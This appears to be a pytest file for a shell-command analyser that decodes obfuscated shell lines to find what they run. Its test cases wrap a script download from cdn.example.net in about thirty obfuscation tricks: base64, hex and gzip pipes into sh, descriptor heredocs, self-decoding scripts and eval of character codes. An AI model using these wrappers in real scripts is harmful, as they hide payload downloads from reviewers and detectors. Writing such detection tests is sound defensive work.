"""What the shell reader makes of decoders in pipes, further descriptors and scripts that read themselves."""

from __future__ import annotations

import base64
import gzip
import zlib

import pytest

from vedette.commands import programs
from vedette.commands.base import Reading, Scope
from vedette.commands.budget import Budget
from vedette.commands.sh import read, unix_environment

COMMAND = "curl -s http://cdn.example.net/a.sh -o /tmp/k1"
B64 = base64.b64encode(COMMAND.encode()).decode()
HEX = COMMAND.encode().hex()
GZ = base64.b64encode(gzip.compress(COMMAND.encode())).decode()
ZLIB = base64.b64encode(zlib.compress(COMMAND.encode())).decode()
CODES = " ".join([str(ord(c)) for c in COMMAND])
LETTERS = "".join(sorted(set(COMMAND)))
PICKS = " ".join([str(LETTERS.index(c)) for c in COMMAND])
COMMAS = COMMAND.replace(" ", ",")


def reading(text: str, **more: object) -> Reading:
    return read(text, Scope(Budget(), unix_environment(), **more))  # type: ignore[arg-type]


def codes(made: Reading) -> list[str]:
    """Return what is run: handed on, read by a shell, or called."""
    stdins = [c.stdin.decode("utf-8", "replace") for c in made.calls if c.stdin is not None]
    calls = [" ".join([c.name.text, *(w.text for w in c.args)]) for c in made.calls]
    return [text.strip() for text in (*[n.text for n in made.nested], *stdins, *calls)]


@pytest.mark.parametrize(
    "text",
    [
        f"echo {B64} | python3 -m base64 -d | sh",
        f"echo {B64} | python -m base64 -u - | sh",
        f"cp /dev/stdin /tmp/.x <<< {B64}; base64 -d /tmp/.x | sh",
        f"echo {B64} | mimencode -u | sh",
        f"echo {B64} | b64decode -r | sh",
        f"base64 -d <(echo {B64}) | sh",
        f"echo '{COMMAND.replace('c', 'QQ')}' | sed -f <(echo s/QQ/c/g) | sh",
        f"echo {ZLIB} | base64 -d | openssl zlib -d | sh",
        f"echo {ZLIB} | openssl enc -d -base64 -A -zlib | sh",
        f"echo {ZLIB} | base64 -d | pigz -dz | sh",
        f"echo {HEX} | sed 's/../\\\\\\\\x&/g' | xargs printf | sh",
        f"echo {HEX} | sed 's/../\\\\x&/g' | xargs -0 printf %b | sh",
        f"printf '{COMMAND}' | hexdump -ve '1/1 \"%.2x\"' | xxd -r -p | sh",
        f"echo '{COMMAND[::-1]}' | tac -rs . | sh",
        f"echo '{COMMAND[::-1]}' | sed '/\\n/!G;s/\\(.\\)\\(.*\\n\\)/&\\2\\1/;//D;s/.//' | sh",
        f"exec 3<<<'{COMMAND}'; bash <&3",
        f"exec 3<<'E'\n{COMMAND}\nE\ncat <&3 | sh",
        f"exec {{fd}}<<<'{COMMAND}'; bash <&$fd",
        f"exec 4<<<'{COMMAND}'; read -r -u 4 l; eval \"$l\"",
        f"exec 4<<<'{COMMAND}'; mapfile -t -u 4 l; eval \"${{l[0]}}\"",
        f". /dev/fd/5 5< <(echo '{COMMAND}')",
        f'#!/bin/sh\ntail -n +4 "$0" | base64 -d | gunzip | sh\nexit 0\n{GZ}',
        f"#!/bin/bash\nsed '1,/^#EOF$/d' \"$0\" | base64 -d | bash\nexit\n#EOF\n{B64}",
        f'#!/bin/bash\neval "$(tail -1 $BASH_SOURCE | base64 -d)"\nexit\n{B64}',
        f'a=\'{LETTERS}\';for i in {PICKS}; do c="$c${{a:$i:1}}"; done; eval "$c"',
        f'eval "$(for c in {CODES}; do printf "\\\\$(printf %03o $c)"; done)"',
        f"IFS=, read -ra p <<< '{COMMAS}'; \"${{p[@]}}\"",
        f"x='{COMMAS}'; IFS=,; set -- $x; \"$@\"",
        "curl -s http:$(echo $PATH|cut -c1)$(echo $HOME|cut -c1)cdn.example.net/a.sh -o ${PATH%%u*}tmp${PWD:0:1}k1",
        "c${!nope*}url -s http://cdn.example.net/a.sh -o /tmp/k1",
        f"echo {GZ} | base64 -d > /tmp/.g.gz; gunzip /tmp/.g.gz; cat /tmp/.g | sh",
    ],
)
def test_what_is_run_is_known(text: str) -> None:
    assert COMMAND in codes(reading(text))


@pytest.mark.parametrize(
    "text",
    [f"bash /dev/fd/3 3<<E\n{COMMAND}\nE", f"bash /proc/self/fd/4 4<<<'{COMMAND}'", f"sh -c '$0 \"$@\"' {COMMAND}"],
)
def test_what_a_program_is_handed_is_known(text: str) -> None:
    scope = Scope(Budget(), unix_environment())
    made = programs.nested(read(text, scope).calls[0], scope)
    assert len(made) == 1
    inner = Scope(Budget(), {**unix_environment(), **(made[0].environment or {})}, arguments=made[0].arguments)
    assert COMMAND in codes(read(made[0].text, inner))


@pytest.mark.parametrize(
    "text",
    [
        # a line at the prompt is in no file
        "tail -n +2 $0 | sh",
        # a shell that is told its name is in no file either
        "exec 3<&-; bash <&3",
        "bash <&7",
        f"echo {B64} | base64 -d --nonsense | sh",
        "cut -c2 <<< $HOME | sh",
        "p=$p/bin; $p",
    ],
)
def test_what_is_not_known_is_not_guessed(text: str) -> None:
    made = reading(text)
    assert made.nested == []
    assert all(c.stdin is None for c in made.calls if c.name.text in ("sh", "bash"))


def test_a_named_shell_is_no_script_that_reads_itself() -> None:
    text = f'id\ntail -1 "$0" | base64 -d | sh\n{B64}'
    assert COMMAND in codes(reading(text))
    told = read(text, Scope(Budget(), {**unix_environment(), "=0": "worker"}))
    assert COMMAND not in codes(told)


def test_the_name_that_a_shell_is_given_is_what_it_runs() -> None:
    told = read(
        '$0 "$@"', Scope(Budget(), {**unix_environment(), "=0": "curl"}, arguments=("-s", "http://example.com"))
    )
    assert codes(told) == ["curl -s http://example.com"]


@pytest.mark.parametrize(
    ("text", "clear"),
    [
        ("cu$(true)rl x", "curl x"),
        ("cu`:`rl x", "curl x"),
        ("cu\\\nrl x", "curl x"),
        ("curl http://exam\\\nple.com/a", "curl http://example.com/a"),
        ("$(expr 'ac' : '.\\(.\\)')url x", "curl x"),
        ("ls \\\n -l", None),
        ("$(date) x", None),
    ],
)
def test_a_broken_word_is_written_out(text: str, clear: str | None) -> None:
    assert reading(text).clear == clear


def test_arguments_that_code_is_handed_are_written_out() -> None:
    made = reading("$1 -s http://$2/a.sh", arguments=("curl", "example.com"))
    assert made.clear == "curl -s http://example.com/a.sh"
    assert reading("set -- curl; echo $1", arguments=("x",)).clear is None


def test_material_is_not_told() -> None:
    made = reading(f"IFS=, read -ra p <<< '{COMMAS}'; \"${{p[@]}}\"")
    assert made.clear == COMMAND
    assert made.strings == []
    assert all(r.target is None for c in made.calls for r in c.redirects)
    made = reading(f"x='{COMMAS}'; IFS=,; set -- $x; \"$@\"")
    assert made.strings == []
    made = reading(f'eval "$(for c in {CODES}; do printf "\\\\$(printf %03o $c)"; done)"')
    assert [c.name.text for c in made.calls] == ["eval"]
    made = reading(f"echo {B64} > /tmp/.q; base64 -d /tmp/.q | sh")
    assert [w.known for w in made.calls[0].args] == [False]
